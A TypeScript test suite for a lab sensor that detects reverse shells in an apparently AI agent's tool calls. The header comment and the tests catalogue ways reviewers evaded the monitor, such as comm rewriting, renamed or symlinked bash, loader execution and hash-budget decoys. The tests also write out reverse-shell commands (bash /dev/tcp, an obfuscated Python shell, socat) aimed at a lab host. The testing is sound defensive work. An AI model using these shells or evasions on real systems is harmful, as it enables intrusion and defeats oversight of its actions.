// Why: shell_socket_connect (a shell's own connect(): the core of `bash -i >& /dev/tcp/h/p`) named the
// process by its kernel comm and knew copies only by their whole-file hash, and a session 32 reviewer
// slipped a shell's socket past it four ways: rewriting /proc/self/comm, a copy of bash with one byte
// appended, bash run through the dynamic loader, and a forked subshell of a renamed shell; a script
// whose #! line names bash, called curl, is one more. The session 35 review found three more holes in
// the renamed-program check every name-based rule relies on (session/binary-copies.ts): a symbolic
// link with another name to bash or socat was no copy, so neither shell_socket_connect nor the socat
// rules saw it; a crowd of same-sized decoys spent the hash budget and a plain copy of bash then passed
// unnamed, silently; and the first exec of a session, the call's own /bin/bash, was called a copy of
// bash. Each runs here, inside the lab, from a script the command screen never reads. Nothing leaves:
// the lab's far host answers (SAFETY.md; the fixture refuses to run outside the lab).
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { startFixture, oneUnscreenedCall, rulesOf, type Fixture } from './helpers/lab-fixture.js';
import { buildSessionReport } from '../src/report/session-report.js';
import { renderSessionText } from '../src/report/session-text.js';
import { makeStyle } from '../src/cli/style.js';

let fx: Fixture;
before(async () => { fx = await startFixture([{ name: 'registry.test', ip: '198.51.100.10', services: [{ kind: 'http', port: 80 }] }], 'labss'); });
after(async () => { await fx?.close(); });

const LOADER = '/lib64/ld-linux-x86-64.so.2';
/**
 * The shell part: opens a socket with bash's own /dev/tcp (no other program owns it). The target comes from
 * `$T`, exported by the call, so no command line holds a whole `/dev/tcp/host/port`: the exec rule
 * reverse_shell_dev_tcp_exec (same category) would otherwise be the call's one reverse-shell alert whenever it
 * was flushed before the connect arrived (under load), and these tests are about the connect.
 */
const DEV_TCP = 'exec 3<>/dev/tcp/$T; echo connected';

const oneCall = (command: string) => oneUnscreenedCall(fx, command, 'shell-socket');

async function assertShellConnect(command: string, what: string): Promise<Awaited<ReturnType<typeof oneCall>>> {
  const res = await oneCall(`export T=198.51.100.10/80\nprintf '%s\\n' '${DEV_TCP}' > job.sh\n${command}`);
  const { r, alerts, s } = res;
  assert.match(r.stdout, /connected/, `${what}: ${r.stderr}`);
  const connects = JSON.stringify(s.events.filter((e) => e.kind === 'connect' && e.payload.source === 'syscall').map((e) => [e.pid, e.payload.comm, e.payload.program, e.payload.copy_of]));
  const hit = alerts.filter((a) => rulesOf(a).includes('shell_socket_connect'));
  assert.ok(hit.length >= 1, `${what}: no shell_socket_connect; connects ${connects}; alerts ${JSON.stringify(alerts.map((a) => a.payload.rule))}`);
  assert.ok(hit.every((a) => a.tool_call === 'call-1' && a.payload.category === 'reverse_shell'), what);
  return res;
}

const execs = (s: Awaited<ReturnType<typeof oneCall>>['s']) => s.events.filter((e) => e.kind === 'exec');
const showExecs = (s: Awaited<ReturnType<typeof oneCall>>['s']): string => JSON.stringify(execs(s).map((e) => [e.payload.filename, e.payload.copy_of]));

test('a shell started on a socket — connect, dup2 over fds 0–2, exec sh, no -i, no connect of its own — is a reverse shell of the call that ran it', async () => {
  // (session 36 review: python hiding its names connected, put the socket on the shell's stdio and exec'd sh
  // from a file written earlier; no rule saw it. The sensor now reads fds 0–2 of every new image.)
  const py = [
    'import os',
    'so = __import__("".join(map(chr, [115, 111, 99, 107, 101, 116])))',
    'c = getattr(so, "create_" + "conn" + "ection")(("registry.test", 80), timeout=5)',
    'for fd in (0, 1, 2): getattr(os, chr(100) + "up2")(c.fileno(), fd)',
    'os.execv(bytes.fromhex("2f62696e2f7368").decode(), ["x", "-c", "echo connected >&2; id; exec cat"])',
  ];
  const { r, alerts, s } = await oneCall(`printf '%s\\n' ${py.map((l) => `'${l}'`).join(' ')} > tools.py\ntimeout 5 python3 tools.py; echo done`);
  assert.match(r.stdout, /done/, r.stderr);
  const shell = s.events.find((e) => e.kind === 'exec' && e.payload.filename === '/bin/sh');
  assert.deepEqual(shell?.payload.stdio_socket, [0, 1, 2], JSON.stringify(s.events.filter((e) => e.kind === 'exec').map((e) => [e.payload.filename, e.payload.stdio_socket])));
  const hit = alerts.filter((a) => rulesOf(a).includes('shell_on_socket'));
  assert.equal(hit.length, 1, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.message])));
  assert.deepEqual([hit[0]!.tool_call, hit[0]!.payload.category, hit[0]!.pid], ['call-1', 'reverse_shell', shell!.pid]);
  // the call's own shell and python had pipes, not sockets (what the shell ran, id and cat, inherited the socket)
  const before = s.events.filter((e) => e.kind === 'exec' && /(^|\/)(bash|python3|timeout)$/.test(String(e.payload.filename)));
  assert.ok(before.length >= 3 && before.every((e) => e.payload.stdio_socket === undefined), JSON.stringify(before.map((e) => [e.payload.filename, e.payload.stdio_socket])));
});

test('a shell that rewrote its comm is still a shell: the connect is judged by the program it exec\'d', async () => {
  await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' | cat - job.sh > j2.sh && bash j2.sh', 'comm rewritten');
});

test('a copy of bash with one byte appended is still bash: its build-id says so', async () => {
  await assertShellConnect('cp /bin/bash ./kw && printf x >> ./kw && ./kw job.sh', 'padded copy');
});

test('bash run through the dynamic loader is bash', { skip: !existsSync(LOADER) && `no ${LOADER}` }, async () => {
  await assertShellConnect(`${LOADER} /bin/bash job.sh`, 'through the loader');
});

test('a subshell forked (no exec) by a shell whose comm was rewritten is judged by its parent\'s program', async () => {
  await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' \'( exec 3<>/dev/tcp/$T; echo connected )\' > j3.sh && bash j3.sh', 'subshell');
});

test('a subshell of a subshell, and a subshell whose parent has exited (reparented to the sandbox\'s holder), of a comm-rewritten shell are judged by the file they run', async () => {
  // (neither process exec'd, and neither's parent did: the kernel's dev:inode of the executable names bash)
  await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' \'( ( exec 3<>/dev/tcp/$T; echo connected ) )\' > j4.sh && bash j4.sh', 'fork of a fork');
  await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' \'( sleep 0.3; exec 3<>/dev/tcp/$T; echo connected ) &\' > j5.sh && bash j5.sh; sleep 1', 'orphaned subshell');
});

test('a script whose #! names bash is bash when it opens a socket, whatever the script is called', async () => {
  await assertShellConnect('printf \'%s\\n\' \'#!/bin/bash\' "$(cat job.sh)" > curl && chmod +x curl && ./curl', 'script');
});

test('a symbolic link to bash under another name is bash: run directly, through the loader, or named on a #! line', async () => {
  // (session 35 review: the link is the original file itself, which the copy check took for the program
  // run by its own name; the connect was `program ./k` with no copy_of and passed)
  const { s, alerts } = await assertShellConnect('ln -s /bin/bash ./k && ./k job.sh', 'link');
  assert.ok(execs(s).some((e) => e.payload.filename === './k' && e.payload.copy_of === 'bash'), showExecs(s));
  assert.ok(alerts.some((a) => a.payload.rule === 'system_binary_copy_exec' && /run as \.\/k/.test(a.payload.message)), JSON.stringify(alerts.map((a) => a.payload.message)));
  await assertShellConnect('ln -s /bin/bash ./k2 && ln -s k2 ./k && ./k job.sh', 'a link to a link');
  if (existsSync(LOADER)) await assertShellConnect(`ln -s /bin/bash ./k && ${LOADER} ./k job.sh`, 'link through the loader');
  await assertShellConnect('ln -s /bin/bash ./k && printf \'%s\\n\' \'#!/workspace/k\' "$(cat job.sh)" > curl && chmod +x curl && ./curl', 'link on a #! line');
});

test('a symbolic link to socat under another name is socat to the exec rules (reverse_shell_socat_exec, socat_relay_exec)', async () => {
  const { r, alerts, s } = await oneCall('ln -s /usr/bin/socat ./cat2 && timeout 5 ./cat2 exec:/bin/sh tcp:198.51.100.10:4444,connect-timeout=2 >/dev/null 2>&1; echo done');
  assert.match(r.stdout, /done/, r.stderr);
  const rules = alerts.flatMap(rulesOf);
  assert.ok(rules.includes('reverse_shell_socat_exec') && rules.includes('socat_relay_exec'), `${JSON.stringify(rules)} ${showExecs(s)}`);
  const shell = alerts.find((a) => a.payload.rule === 'reverse_shell_socat_exec')!;
  assert.equal(shell.tool_call, 'call-1');
  assert.equal(shell.payload.category, 'reverse_shell');
});

test('the programs themselves are no copies: the call\'s own /bin/bash (the first exec of the session), names on PATH, sh, a system alias, a virtualenv\'s python', async () => {
  // (session 35 review: the first exec a session judged was compared before the programs themselves were
  // known, and the call's own /bin/bash was a high "Renamed copy of bash run as /bin/bash". That happened
  // when the sensor delivered the sandbox's own bwrap and holder execs before the session knew its sandbox's
  // root — in 8 sessions of 10 here — so five fresh sessions are checked, each starting with that bash.)
  for (let i = 0; i < 5; i++) {
    const { r, alerts, s } = await oneCall('bash -c true; sh -c true; /usr/bin/bash -c true; /bin/sh -c true; python3 -c pass; '
      + '{ [ ! -e /usr/bin/rbash ] || /usr/bin/rbash -c true; }; python3 -m venv --without-pip v && v/bin/python -c pass && v/bin/python3 -c pass && echo ok');
    assert.match(r.stdout, /ok/, r.stderr);
    assert.ok(execs(s).some((e) => e.payload.filename === 'v/bin/python'), showExecs(s));
    assert.deepEqual(execs(s).filter((e) => e.payload.copy_of !== undefined).map((e) => [e.payload.filename, e.payload.copy_of]), [], `session ${i}: ${showExecs(s)}`);
    assert.deepEqual(alerts.filter((a) => a.payload.rule === 'system_binary_copy_exec').map((a) => a.payload.message), []);
  }
});

test('a crowd of same-sized decoys spends the hash budget: a copy of bash is still bash (its build-id), and the execs left uncompared make the capture incomplete', async () => {
  // (session 35 review: past the budget the build-id was not read either, and nothing said so)
  const decoys = 'B=$(stat -L -c%s /bin/bash); for i in $(seq 60); do cp /bin/true d$i && truncate -s $B d$i; done; for i in $(seq 60); do ./d$i; done';
  const { s } = await assertShellConnect(`${decoys}; cp /bin/bash ./k && ./k job.sh`, 'copy after decoys');
  assert.ok(execs(s).some((e) => e.payload.filename === './k' && e.payload.copy_of === 'bash'), showExecs(s));
  const unchecked = execs(s).filter((e) => e.payload.copy_unchecked === true);
  assert.ok(unchecked.length >= 1 && unchecked.every((e) => /^\.\/d\d+$/.test(String(e.payload.filename))), showExecs(s));
  const capture = s.capture;
  assert.equal(capture.copies_unchecked, unchecked.length);
  assert.equal(capture.complete, false);
  const end = s.events.find((e) => e.kind === 'session.end');
  assert.equal(end?.payload.copies_unchecked, unchecked.length);
  // the report, rebuilt from the log, says so too
  const report = buildSessionReport(s.events);
  assert.equal(report.capture.copies_unchecked, unchecked.length);
  assert.equal(report.capture.complete, false);
  assert.match(renderSessionText(report, makeStyle({ isTTY: false } as NodeJS.WriteStream, { NO_COLOR: '1' })), /capture incomplete: \d+ exec\(s\) not checked for renamed copies/);
});
